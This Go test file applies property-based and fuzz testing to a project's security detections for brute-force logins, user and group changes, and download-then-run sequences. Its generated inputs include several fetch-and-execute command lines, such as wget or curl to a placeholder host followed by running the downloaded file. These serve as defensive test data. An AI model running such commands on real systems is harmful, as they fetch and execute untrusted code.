package detection_test

import (
	"fmt"
	"slices"
	"strconv"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"pgregory.net/rapid"

	"github.com/tvilling/tvilling"
	"github.com/tvilling/tvilling/internal/security/detect"
	"github.com/tvilling/tvilling/internal/security/detection"
	"github.com/tvilling/tvilling/internal/security/event"
)

// limit is what no memory may exceed.
const limit = 4096

// anyEvent draws an event of a kind that a detection looks at, with texts that
// a hostile device may send.
func anyEvent(t *rapid.T, k event.Kind, span int) event.Event {
	at := day.Add(time.Duration(rapid.IntRange(0, span).Draw(t, "second")) * time.Second)
	if rapid.IntRange(0, 20).Draw(t, "wrong clock") == 0 {
		at = at.AddDate(rapid.IntRange(-30, 30).Draw(t, "years"), 0, 0)
	}
	e := event.Event{ID: rapid.StringN(1, 8, 16).Draw(t, "id"), Kind: k, Name: k.String(), Time: at, Stated: at}
	few := func(name string, list ...string) string { return rapid.SampledFrom(list).Draw(t, name) }
	wild := func(name string, list ...string) string {
		if rapid.IntRange(0, 3).Draw(t, "wild") == 0 {
			return rapid.StringN(0, 30, 60).Draw(t, name)
		}
		return few(name, list...)
	}
	for range rapid.IntRange(0, 5).Draw(t, "items") {
		var extra event.Details
		if rapid.IntRange(0, 5).Draw(t, "aggregated") == 0 {
			extra = event.Details{{Name: "HitCount", Value: wild("hits", "1", "7", "99999999999999999999", "-3")}}
		}
		switch k { //nolint:exhaustive // those that detections look at
		case event.LoginKind:
			e.Items = append(e.Items, &event.Login{
				UserName: wild("user", "root", "pump", ""), UserID: few("uid", "0", "1000", ""), RemoteAddress: wild("address", "192.0.2.1", "192.0.2.2", "", "::1", "?"),
				Operation: few("op", "PAM:authentication", "login", "password"), Result: few("result", "Fail", "Fail", "Success"), Executable: wild("exe", "/usr/sbin/sshd", "/usr/bin/login"), Extra: extra,
			})
		case event.LocalUsersKind:
			e.Items = append(e.Items, &event.LocalUsers{
				UserID: wild("uid", "0", "1000", "1001"), UserName: wild("name", "root", "pump", "valve"),
				GroupIDs: wild("gids", "0", "27;1000", "1000", ""), GroupNames: wild("groups", "root", "sudo;pump", "pump", ""), Extra: extra,
			})
		case event.FirewallConfigurationKind:
			e.Items = append(e.Items, &event.FirewallConfiguration{Action: few("action", "Allow", "Deny"), Enabled: rapid.Bool().Draw(t, "enabled"), Extra: extra})
		case event.ConfigurationErrorKind:
			e.Items = append(e.Items, &event.ConfigurationError{ErrorType: few("type", "TypeMismatch", "Conflict"), ConfigurationName: wild("name", "a", "b"), Extra: extra})
		case event.ProcessCreateKind:
			e.Items = append(e.Items, &event.ProcessCreate{
				Executable: wild("exe", "/usr/bin/curl", "/bin/sh", "/tmp/x", "/tmp/y", "/usr/bin/mv"),
				CommandLine: wild("line", "curl -o /tmp/x http://h/x", "sh -c 'wget -O /tmp/y http://h/y; sh /tmp/y'", "/tmp/x", "mv /tmp/x /tmp/y",
					"curl -o", "wget -P", "tftp -g -l", "cp", "sh -c", "curl -fsSLo", "scp a:b"), Extra: extra,
			})
		}
	}
	e.Empty = len(e.Items) == 0
	return e
}

func anyMessages(t *rapid.T, d detect.Stateful, n, span int) []*event.Message {
	var list []*event.Message
	kinds := d.Kinds()
	if len(kinds) == 0 {
		kinds = []event.Kind{event.HeartbeatKind}
	}
	at := day
	for range rapid.IntRange(1, n).Draw(t, "messages") {
		at = at.Add(time.Duration(rapid.IntRange(0, 100).Draw(t, "later")) * time.Second)
		m := &event.Message{From: tvilling.Device("d"), Received: at}
		for range rapid.IntRange(1, 3).Draw(t, "events") {
			m.Events = append(m.Events, anyEvent(t, rapid.SampledFrom(kinds).Draw(t, "kind"), span))
		}
		list = append(list, m)
	}
	return list
}

// TestMemoryIsBoundedAndEnough holds for any events: no memory is over the
// limit, no finding is malformed, and a detection that is made anew before
// each message finds what one finds that was never stopped.
func TestMemoryIsBoundedAndEnough(t *testing.T) {
	for _, d := range detection.All() {
		t.Run(d.Info().ID, func(t *testing.T) {
			rapid.Check(t, func(rt *rapid.T) {
				messages := anyMessages(rt, d, 12, 2000)
				p := defaults(d, nil)
				kept, fresh := &scope{started: day}, &scope{started: day}
				for n, m := range messages {
					kept.found, fresh.found = nil, nil
					observe(d, kept, m, p)
					observe(byID(d.Info().ID), fresh, m, p)
					if diff := cmp.Diff(texts([][]detect.Finding{kept.found}), texts([][]detect.Finding{fresh.found})); diff != "" {
						rt.Fatalf("message %d, restarted:\n%s", n, diff)
					}
					for _, f := range kept.found {
						if f.Hits < 1 || f.Time.IsZero() || f.Event == nil || f.Item >= len(f.Event.Items) || len(f.Cause) > 300 {
							rt.Fatalf("message %d: finding %+v", n, f)
						}
					}
				}
				if kept.largest > limit {
					rt.Fatalf("%d bytes of memory", kept.largest)
				}
			})
		})
	}
}

// TestAnyMemory holds that no bytes in place of a memory do harm.
func TestAnyMemory(t *testing.T) {
	for _, d := range detection.All() {
		t.Run(d.Info().ID, func(t *testing.T) {
			rapid.Check(t, func(rt *rapid.T) {
				s := &scope{started: day, memory: rapid.SliceOfN(rapid.Byte(), 0, 200).Draw(rt, "memory")}
				if len(s.memory) > 0 {
					s.memory[0] = 1
				}
				for _, m := range anyMessages(rt, d, 3, 100) {
					observe(d, s, m, defaults(d, nil))
				}
				if s.largest > limit {
					rt.Fatalf("%d bytes of memory", s.largest)
				}
			})
		})
	}
}

// TestHostileSizes tries what would fill a memory: many users with many
// groups, many addresses, many files, each with the most of everything.
func TestHostileSizes(t *testing.T) {
	many := map[string]func(n int) event.Item{
		"brute-force-failed":  manyLogins,
		"brute-force-success": manyLogins,
		"group-member-added":  manyUsers, "group-member-removed": manyUsers,
		"local-user-added": manyUsers, "local-user-deleted": manyUsers,
		"download-then-run-sequence": func(n int) event.Item {
			return &event.ProcessCreate{Executable: "/bin/sh", CommandLine: fmt.Sprintf("sh -c 'curl -o /tmp/%d http://h/%d; /tmp/r%d'", n, n, n)}
		},
	}
	for id, one := range many {
		t.Run(id, func(t *testing.T) {
			d, s := byID(id), &scope{started: day}
			for round := range 20 {
				m := &event.Message{Received: day.Add(time.Duration(round) * time.Second)}
				e := event.Event{ID: strconv.Itoa(round), Kind: d.Kinds()[0], Time: m.Received, Stated: m.Received}
				for n := range 500 {
					e.Items = append(e.Items, one(round*250+n))
				}
				m.Events = []event.Event{e}
				s.found = nil
				observe(d, s, m, defaults(d, nil))
				if len(s.found) > 520 {
					t.Fatalf("%d findings of one event", len(s.found))
				}
			}
			if s.largest > limit || s.largest == 0 {
				t.Errorf("%d bytes of memory, want 1 to %d", s.largest, limit)
			}
		})
	}
}

func manyLogins(n int) event.Item {
	return &event.Login{
		UserName: fmt.Sprintf("user%d", n), RemoteAddress: fmt.Sprintf("2001:db8::%x", n), Operation: fmt.Sprint("op", n%7), Result: "Fail",
		Extra: event.Details{{Name: "HitCount", Value: strconv.Itoa(n * 1000)}},
	}
}

func manyUsers(n int) event.Item {
	u := &event.LocalUsers{UserID: strconv.Itoa(n), UserName: fmt.Sprintf("user%d", n)}
	for g := range 100 {
		u.GroupIDs += fmt.Sprintf("%d;", 1_000_000+n*g)
	}
	return u
}

// TestOrderOfFailures holds what brute-force-failed claims: which causes are
// found does not depend on the order in which events within a window come.
func TestOrderOfFailures(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		var events []event.Event
		for n := range rapid.IntRange(8, 22).Draw(rt, "failures") {
			at := day.Add(time.Duration(rapid.IntRange(0, 600).Draw(rt, "second")) * time.Second)
			events = append(events, event.Event{
				ID: strconv.Itoa(n), Kind: event.LoginKind, Time: at, Stated: at,
				Items: []event.Item{&event.Login{
					UserName: rapid.SampledFrom([]string{"root", "pump"}).Draw(rt, "user"), Result: "Fail",
					RemoteAddress: rapid.SampledFrom([]string{"192.0.2.1", "192.0.2.2", "192.0.2.3", ""}).Draw(rt, "address"),
					Operation:     rapid.SampledFrom([]string{"login", "password"}).Draw(rt, "op"),
				}},
			})
		}
		causes := func(list []event.Event) []string {
			d, s := detection.BruteForceFailed(), &scope{started: day}
			for i := range list {
				observe(d, s, &event.Message{Received: day.Add(time.Hour), Events: list[i : i+1]}, defaults(d, nil))
			}
			var out []string
			for _, f := range s.found {
				out = append(out, f.Cause)
			}
			slices.Sort(out)
			return slices.Compact(out)
		}
		want := causes(events)
		if diff := cmp.Diff(want, causes(rapid.Permutation(events).Draw(rt, "order"))); diff != "" {
			rt.Fatalf("in another order:\n%s", diff)
		}
	})
}

// TestOrderOfSuccess holds what brute-force-success claims: a success is found
// after its failures in whatever order they come.
func TestOrderOfSuccess(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		var events []event.Event
		failures := rapid.IntRange(8, 12).Draw(rt, "failures")
		for n := range failures + 1 {
			at, result := day.Add(time.Duration(10*n)*time.Second), "Fail"
			if n == failures {
				result = "Success"
			}
			events = append(events, event.Event{
				ID: strconv.Itoa(n), Kind: event.LoginKind, Time: at, Stated: at,
				Items: []event.Item{&event.Login{UserName: "root", RemoteAddress: "192.0.2.1", Result: result}},
			})
		}
		d, s := detection.BruteForceSuccess(), &scope{started: day}
		order := rapid.Permutation(events).Draw(rt, "order")
		for i := range order {
			observe(d, s, &event.Message{Received: day.Add(time.Hour), Events: order[i : i+1]}, defaults(d, nil))
		}
		if got, want := len(s.found), min(1, failures/10); got != want {
			rt.Fatalf("%d findings for %d failures, want %d", got, failures, want)
		}
	})
}

func FuzzCommandLines(f *testing.F) {
	for _, x := range []string{"curl -o /tmp/x http://h/x", "wget -P", "sh -c 'curl h | tee /tmp/x'", "tftp -g -r", "cp a b c/", "curl -", "wget -n"} {
		f.Add("/bin/sh", x)
	}
	f.Fuzz(func(t *testing.T, executable, line string) {
		d, s := detection.DownloadThenRunSequence(), &scope{started: day}
		e := event.Event{ID: "1", Kind: event.ProcessCreateKind, Time: day, Stated: day, Items: []event.Item{
			&event.ProcessCreate{Executable: executable, CommandLine: line},
			&event.ProcessCreate{Executable: "/usr/bin/curl", CommandLine: line},
			&event.ProcessCreate{Executable: "/usr/bin/wget", CommandLine: line},
		}}
		observe(d, s, &event.Message{Received: day, Events: []event.Event{e}}, defaults(d, nil))
		if s.largest > limit {
			t.Errorf("%d bytes of memory", s.largest)
		}
	})
}
